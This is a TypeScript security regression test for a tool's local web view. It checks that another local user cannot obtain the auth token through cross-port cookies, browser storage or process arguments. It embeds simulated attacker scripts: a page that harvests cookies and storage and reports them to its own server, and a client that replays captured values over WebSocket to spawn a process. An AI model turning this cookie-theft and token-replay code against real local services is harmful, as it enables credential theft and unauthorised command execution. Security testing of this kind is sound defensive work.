/**
 * What another local user can get of the web view's token (docs/broker.md, Security model):
 * a page they serve on another loopback port, opened in the user's browser after the web view
 * (break 1 of issue #30: the token cookie went to every port of 127.0.0.1), and `ps` while
 * `clippy web --open` hands the page to the desktop (break 2: the token was in xdg-open's argv).
 * The other user is a throwaway one, created and removed here.
 */
import { execFileSync, type ChildProcess } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext } from 'playwright-core';
import { PROTOCOL_VERSION, encodeFrame } from '@clippy/protocol';
import { TestDaemon } from '@clippy/testkit/daemon';
import { runClippy } from '@clippy/testkit/cli-pty';
import { TestBrowser, chromiumMissing } from '@clippy/testkit/chromium';
import { LocalUser, localUserUnavailable } from '@clippy/testkit/local-user';
import { until } from '@clippy/testkit/until';

/** Generous waits for page loads on a loaded 2-core machine. */
const PAGE_TIMEOUT_MS = 15_000;

const missing = chromiumMissing() ?? localUserUnavailable();

/**
 * The other user's web server (run with `node -e`, so it reads no file of ours): it prints
 * every request it gets (URL, headers, body) as a JSON line, and serves a page that tries what
 * a page can against the web view on port `?p=` and reports it back.
 */
const OTHER_USERS_SERVER = String.raw`
const http = require('node:http');
const PAGE = '<!doctype html><title>another user\'s page</title><script>(' + (async () => {
  const p = new URLSearchParams(location.search).get('p');
  const base = 'http://127.0.0.1:' + p;
  const out = {
    cookie: document.cookie,
    storage: JSON.stringify({ ...sessionStorage }) + JSON.stringify({ ...localStorage }),
  };
  try {
    const r = await fetch(base + '/session', { method: 'POST', credentials: 'include' });
    out.session = r.status + ' ' + (await r.text());
  } catch (e) {
    out.session = 'failed: ' + e.message;
  }
  out.ws = await new Promise((resolve) => {
    const ws = new WebSocket('ws://127.0.0.1:' + p + '/ws');
    ws.onopen = () => { ws.close(); resolve('open'); };
    ws.onerror = () => resolve('refused');
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
}).toString() + ')()</script>';
const server = http.createServer((req, res) => {
  let body = '';
  req.on('data', (d) => (body += d));
  req.on('end', () => {
    process.stdout.write(JSON.stringify({ url: req.url, headers: req.headers, body }) + '\n');
    if (req.url !== '/' && !req.url.startsWith('/?')) { res.writeHead(204); res.end(); return; }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(PAGE);
  });
});
server.listen(0, '127.0.0.1', () =>
  process.stdout.write(JSON.stringify({ port: server.address().port }) + '\n'));
`;

/**
 * The other user using what their server caught: for each value given, a WebSocket upgrade to
 * the web view with it as the token (no Origin: not a browser), then hello and a spawn. Prints
 * the upgrade's outcome per value.
 */
const OTHER_USERS_CLIENT = String.raw`
const http = require('node:http');
const crypto = require('node:crypto');
const [port, hello, spawn, ...values] = process.argv.slice(1);
function frame(hex) {
  const payload = Buffer.from(hex, 'hex');
  const mask = crypto.randomBytes(4);
  const n = payload.length;
  const head = n < 126 ? Buffer.from([0x82, 0x80 | n]) : Buffer.from([0x82, 0x80 | 126, n >> 8, n & 255]);
  return Buffer.concat([head, mask, payload.map((b, i) => b ^ mask[i % 4])]);
}
(async () => {
  for (const value of values) {
    const outcome = await new Promise((resolve) => {
      const req = http.request({
        host: '127.0.0.1', port, path: '/ws?token=' + encodeURIComponent(value),
        headers: { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13',
          'sec-websocket-key': crypto.randomBytes(16).toString('base64') },
      });
      req.on('upgrade', (_res, socket) => {
        let seen = '';
        socket.on('data', (d) => {
          seen += d.toString('latin1');
          if (seen.includes('stolen')) { socket.destroy(); resolve('opened, spawned'); }
        });
        socket.on('close', () => resolve('opened'));
        socket.write(frame(hello));
        socket.write(frame(spawn));
      });
      req.on('response', (res) => { res.resume(); resolve(String(res.statusCode)); });
      req.on('error', (e) => resolve('error: ' + e.message));
      req.end();
    });
    process.stdout.write(JSON.stringify({ value: value.slice(0, 6), outcome }) + '\n');
  }
})();
`;

/** JSON lines a child prints, as they come; `next` waits for one that matches. */
function jsonLines(child: ChildProcess) {
  const lines: Record<string, unknown>[] = [];
  let rest = '';
  child.stdout!.on('data', (d: Buffer) => {
    rest += d.toString();
    const parts = rest.split('\n');
    rest = parts.pop()!;
    for (const p of parts) if (p.trim()) lines.push(JSON.parse(p) as Record<string, unknown>);
  });
  return {
    lines,
    async next(match: (l: Record<string, unknown>) => boolean, what: string) {
      await until(() => lines.some(match), what, PAGE_TIMEOUT_MS);
      return lines.find(match)!;
    },
  };
}

describe.skipIf(missing)('the web view’s token and another local user', () => {
  let d: TestDaemon;
  let browser: TestBrowser;
  let context: BrowserContext;
  let user: LocalUser;
  let url: string;
  let port: number;
  let token: string;

  beforeAll(async () => {
    user = LocalUser.create();
    d = await TestDaemon.start();
    const run = await runClippy(['web', '--json'], d.env.env);
    expect(run.code, run.stderr).toBe(0);
    ({ url, port, token } = JSON.parse(run.stdout) as { url: string; port: number; token: string });
    browser = await TestBrowser.launch();
    context = await browser.browser.newContext();
    context.setDefaultTimeout(PAGE_TIMEOUT_MS);
  });

  afterAll(async () => {
    await browser?.dispose();
    await d?.stop();
    user?.dispose();
  });

  it('a page another user serves on another loopback port gets nothing of the web view', async () => {
    // The user opens the web view, and reloads it: whatever lets a reload in is in the browser.
    const web = await context.newPage();
    await web.goto(url);
    await web.waitForSelector('body[data-ready="true"]');
    await web.reload();
    await web.waitForSelector('body[data-ready="true"]');
    const kept = await web.evaluate(() => JSON.stringify({ ...sessionStorage }));

    const server = user.spawn('node', ['-e', OTHER_USERS_SERVER]);
    const seen = jsonLines(server);
    const { port: otherPort } = await seen.next((l) => 'port' in l, 'the other user’s server');
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${String(otherPort)}/?p=${port}`);
    const report = JSON.parse(
      String((await seen.next((l) => l.url === '/report', 'the page’s report')).body),
    ) as Record<string, string>;
    await page.close();
    server.kill('SIGKILL');

    // What the other user's server received: every cookie value is a token to try.
    const received = JSON.stringify(seen.lines);
    const cookies = seen.lines
      .map((l) => (l.headers as Record<string, string> | undefined)?.cookie)
      .filter((c): c is string => c !== undefined);
    const values = [
      ...new Set(cookies.flatMap((c) => c.split(';').map((p) => p.slice(p.indexOf('=') + 1)))),
    ];
    if (values.length > 0) {
      const hello = encodeFrame({
        type: 'hello',
        id: 0,
        version: PROTOCOL_VERSION,
        role: 'client',
      });
      const spawn = encodeFrame({
        type: 'spawn',
        id: 1,
        command: 'sleep',
        args: ['60'],
        name: 'stolen',
      });
      const attempt = await user.run('node', [
        '-e',
        OTHER_USERS_CLIENT,
        String(port),
        hello.subarray(4).toString('hex'),
        spawn.subarray(4).toString('hex'),
        ...values,
      ]);
      console.warn(`the other user tried what its server caught: ${attempt.stdout}`);
    }
    const c = await d.connect();
    try {
      const { sessions } = await c.request('list_sessions', {});
      expect(sessions.map((s) => s.name)).not.toContain('stolen');
    } finally {
      await c.close();
    }
    expect(cookies).toEqual([]);
    expect(received).not.toContain(token);
    for (const secret of Object.values(JSON.parse(kept) as Record<string, string>)) {
      expect(received).not.toContain(secret);
    }
    // The page itself could neither read the web view's state nor use the web view.
    expect(report.cookie).toBe('');
    expect(report.storage).toBe('{}{}');
    expect(report.session).not.toMatch(/^200/);
    expect(report.ws).toBe('refused');
    expect(await context.cookies()).toEqual([]);
    await web.close();
  });

  it('clippy web --open shows no other user the token, and the page it opens is signed in', async () => {
    // xdg-open stands in for the desktop: it notes what it was given, then waits (as a browser
    // starting cold would) until the test lets it go.
    const bin = join(d.env.root, 'bin');
    const opened = join(d.env.root, 'opened');
    const pidFile = join(d.env.root, 'opener.pid');
    const release = join(d.env.root, 'release');
    mkdirSync(bin, { recursive: true });
    execFileSync('mkfifo', [release]);
    const stopOpener = (pid: number) => {
      try {
        process.kill(pid, 'SIGKILL');
      } catch {
        // Gone already.
      }
    };
    writeFileSync(
      join(bin, 'xdg-open'),
      `#!/bin/sh\nprintf '%s' "$1" > '${opened}'\necho $$ > '${pidFile}'\nread _ < '${release}'\n`,
    );
    chmodSync(join(bin, 'xdg-open'), 0o755);
    const run = await runClippy(['web', '--open'], {
      ...d.env.env,
      PATH: `${bin}:${process.env.PATH}`,
    });
    expect(run.code, run.stderr).toBe(0);
    const readable = (f: string) => {
      try {
        return readFileSync(f, 'utf8').trim() !== '';
      } catch {
        return false;
      }
    };
    let given: string;
    try {
      await until(() => readable(pidFile) && readable(opened), 'xdg-open ran', PAGE_TIMEOUT_MS);
      const pid = Number(readFileSync(pidFile, 'utf8'));
      // Everything another user sees of the running opener: no token.
      const ps = await user.run('ps', ['-eo', 'pid,args', '--no-headers']);
      expect(ps.code).toBe(0);
      const line = ps.stdout.split('\n').find((l) => l.trim().startsWith(`${pid} `));
      expect(line, 'the other user sees the opener in ps').toContain('xdg-open');
      expect(ps.stdout.split('\n').filter((l) => l.includes(token))).toEqual([]);
      expect(readFileSync(`/proc/${pid}/environ`, 'latin1')).not.toContain(token);
      given = readFileSync(opened, 'utf8');
      expect(given).not.toContain(token);
    } finally {
      // The opener waits on the FIFO; stopped by its PID whether or not the checks passed (a
      // write to the FIFO would block forever when it never started).
      if (readable(pidFile)) stopOpener(Number(readFileSync(pidFile, 'utf8')));
    }
    // A file only the user can read, in a directory only the user can enter.
    expect(given).toMatch(/^file:\/\//);
    const file = fileURLToPath(given);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(statSync(dirname(file)).mode & 0o777).toBe(0o700);
    expect((await user.run('cat', [file])).code).not.toBe(0);
    // Opened in the browser, it leads to the signed-in web view, with no token in the address.
    const page = await context.newPage();
    await page.goto(given);
    await page.waitForSelector('body[data-ready="true"]');
    expect(page.url()).toBe(`http://127.0.0.1:${port}/`);
    await page.close();
  });
});
